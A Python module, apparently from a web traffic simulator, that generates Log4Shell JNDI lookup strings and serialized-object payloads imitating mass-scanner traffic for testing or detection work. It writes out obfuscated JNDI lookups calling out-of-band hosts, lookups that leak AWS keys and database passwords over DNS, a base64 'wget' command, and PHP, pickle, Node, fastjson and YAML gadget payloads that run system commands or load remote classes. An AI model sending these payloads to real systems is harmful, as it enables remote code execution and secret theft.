"""JNDI look-ups (Log4Shell) and serialized objects as mass scanners and tools send them.

Sources: published captures of CVE-2021-44228 in the wild (places, obfuscations, environment leaks), log4j-scan, ysoserial
and ysoserial.net, phpggc, Python pickle write-ups.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

import base64
from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier


def _home(rng: Random) -> str:
    return rng.choice((f"{rng.randrange(5, 222)}.{rng.randrange(250)}.{rng.randrange(250)}.{rng.randrange(1, 250)}:{rng.choice((1389, 389, 12344, 5874, 1099, 443))}",
        f"{identifier(rng, 16)}.oast.live", f"{identifier(rng, 6)}.dnslog.cn", f"log4shell.{identifier(rng, 8)}.interact.sh"))


def _place(rng: Random, aim: Aim, text: str) -> Shot:
    """Wherever somebody may log it: agent and referer first, then parameters, then the path."""
    draw = rng.random()
    if draw < 0.35:
        return aim.agent(rng, text)
    if draw < 0.55:
        return aim.referer(rng, text if rng.random() < 0.5 else f"https://www.google.com/search?q={text}")
    if draw < 0.9:
        return aim.query(rng, rng.choice((wire.curl, wire.library, wire.browser))(rng, text), rng.choice(("text", "id", "url")))
    return Shot("/" + wire.library(rng, text))


def plain(rng: Random, aim: Aim) -> Shot:
    """As in the first days: protocol, host, a path that names the payload."""
    return _place(rng, aim, f"${{jndi:{rng.choice(('ldap', 'ldap', 'rmi', 'dns', 'ldaps'))}://{_home(rng)}/{rng.choice(('a', 'Exploit', identifier(rng, 6), 'Basic/Command/Base64/' + base64.b64encode(('wget ' + _home(rng)).encode()).decode(), 'TomcatBypass/Command/Base64/' + identifier(rng, 20), 'o=reference'))}}}")


def cased(rng: Random, aim: Aim) -> Shot:
    """Letters wrapped into lower: and upper: look-ups."""
    sure = rng.randrange(4)
    wrapped = "".join(f"${{{rng.choice(('lower', 'upper'))}:{letter}}}" if n == sure or rng.random() < 0.45 else letter for n,
        letter in enumerate("jndi"))
    scheme = "".join(f"${{lower:{letter}}}" if rng.random() < 0.4 else letter for letter in rng.choice(("ldap", "rmi", "dns")))
    return _place(rng, aim, f"${{{wrapped}:{scheme}://{_home(rng)}/{identifier(rng, 5)}}}")


def environment(rng: Random, aim: Aim) -> Shot:
    """The name looked up carries a secret out by DNS."""
    leak = rng.choice(("env:AWS_SECRET_ACCESS_KEY", "env:AWS_ACCESS_KEY_ID", "sys:java.version", "env:HOSTNAME", "hostName", "sys:user.name",
        "env:DB_PASSWORD", "sys:os.name"))
    return _place(rng, aim, f"${{jndi:{rng.choice(('dns', 'ldap'))}://{rng.choice(('', 'x', identifier(rng, 3) + '.'))}${{{leak}}}.{_home(rng).split(':')[0]}/{identifier(rng, 2)}}}")


def java_objects(rng: Random, aim: Aim) -> Shot:
    """Java's serialization stream in base64, hex or gzip, where view states and remember-me values are."""
    stream = b"\xac\xed\x00\x05sr\x00" + rng.choice((b"\x11java.util.HashMap", b"\x17java.util.PriorityQueue",
        b"\x2esun.reflect.annotation.AnnotationInvocationHandler", b"\x11java.util.HashSet")) + rng.randbytes(rng.randrange(40, 220))
    text = rng.choice((base64.b64encode(stream).decode(), stream.hex(), "H4sIAAAAAAAA" + base64.b64encode(rng.randbytes(90)).decode(),
        base64.urlsafe_b64encode(stream).decode()))
    return Shot(rng.choice(("/faces/index.xhtml", "/invoker/readonly", "/login.jsp", "/", "/api/session", aim.site.style.account, "/jmx-console/",
        "/ajax/data")), f"{rng.choice(('javax.faces.ViewState', 'rememberMe', 'data', 'state', 'object', 'token'))}={wire.library(rng, text)}",
        method=rng.choice(("GET", "GET", "POST")))


def defaulted(rng: Random, aim: Aim) -> Shot:
    """Letters from default values of look-ups that fail: no word of the attack remains readable."""
    def hide(word: str) -> str:
        return "".join(rng.choice((f"${{::-{letter}}}", f"${{env:{identifier(rng, 4, 'ABCDEFGHKLMNPQRSTUVW')}:-{letter}}}",
            f"${{{identifier(rng, 3)}:{identifier(rng, 2)}:-{letter}}}", f"${{date:'{letter}'}}", letter)) for letter in word)

    text = f"${{{hide('jndi')}{rng.choice((':', '${::-:}', '${env:X:-:}'))}{hide(rng.choice(('ldap', 'rmi', 'iiop', 'corba', 'nis')))}{rng.choice((':', '${::-:}'))}//{rng.choice(('127.0.0.1#', ''))}{_home(rng)}/{identifier(rng, 4)}}}"
    return _place(rng, aim, text)


def other_objects(rng: Random, aim: Aim) -> Shot:
    """PHP, .NET, Python and Node objects."""
    name = rng.choice(("Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Psr7\\FnStream", "Illuminate\\Broadcasting\\PendingBroadcast",
        "SplFileObject", "PDO", identifier(rng, 7)))
    text = rng.choice((
        f'O:{len(name)}:"{name}":1:{{s:{rng.randrange(4, 12)}:"{identifier(rng, 6)}";s:6:"system";}}',
        f'a:2:{{i:0;O:8:"stdClass":0:{{}}i:1;s:{rng.randrange(2, 9)}:"id";}}', f'O:+{len(name)}:"{name}":0:{{}}',
        base64.b64encode(f'O:{len(name)}:"{name}":1:{{s:4:"func";s:7:"phpinfo";}}'.encode()).decode(),
        "AAEAAAD/////AQAAAAAAAAAMAgAAAE" + base64.b64encode(rng.randbytes(100)).decode(), "/wEy" + base64.b64encode(rng.randbytes(140)).decode(),
        base64.b64encode(b"\x80\x04\x95" + rng.randbytes(8) + b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.").decode(),
        "cos\nsystem\n(S'id'\ntR.",
        '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'id\')}()"}',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://' + _home(rng) + '/x","autoCommit":true}',
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + _home(rng) + "/\"]]]]",
    ))
    return Shot(rng.choice(("/", "/index.php", "/Default.aspx", "/api/import", aim.site.style.cart, "/v2/cart", "/unserialize.php")),
        f"{rng.choice(('data', 'session', '__VIEWSTATE', 'obj', 'cart', 'prefs', 'input', 'payload'))}={wire.library(rng, text)}",
        method=rng.choice(("GET", "GET", "POST")))
